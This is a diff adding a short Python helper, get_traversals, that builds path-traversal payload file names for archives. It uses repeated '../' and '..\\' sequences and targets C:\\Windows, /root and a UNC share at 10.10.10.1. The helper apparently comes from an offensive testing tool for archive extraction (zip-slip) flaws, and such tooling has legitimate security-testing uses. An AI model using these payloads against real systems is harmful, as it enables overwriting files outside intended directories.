@@ -0,0 +1,45 @@
+from __future__ import annotations
+
+
+def get_traversals(filename: str, depth: int = 6, separator: str = '\\', sequence: str = None,
+                   prefix: str = '', increment: int = None, multi: bool = False) -> [str]:
+    '''
+    Create a list of traversal payloads for the specified filename.
+
+    Parameters:
+        filename        filename within the archive
+        depth           number of traversal sequences to use
+        separator       path separator
+        sequence        custom traversal sequence ({sep} is replaced by separator)
+        prefix          prefix to use before the file name
+        increment       add incremental traversal payloads from increment to depth
+        multi           create multiple payloads for different platforms
+
+    Returns:
+        list of traversal payloads
+    '''
+    traversal_payloads = []
+    sequence = sequence.replace('{sep}', separator) if sequence else f'..{separator}'
+
+    if prefix and not prefix.endswith(separator):
+        prefix += separator
+
+    if multi:
+
+        traversal_payloads.append(f'C:\\Windows\\{filename}')
+        traversal_payloads.append(f'\\\\10.10.10.1\\share\\{filename}')
+        traversal_payloads.append(f'/root/{filename}')
+
+        for ctr in range(1, depth):
+            traversal_payloads.append('../' * ctr + filename)
+            traversal_payloads.append('..\\' * ctr + filename)
+
+    elif increment is not None:
+
+        for ctr in range(increment, depth + 1):
+            traversal_payloads.append(sequence * ctr + prefix + filename)
+
+    else:
+        traversal_payloads.append(sequence * depth + prefix + filename)
+
+    return traversal_payloads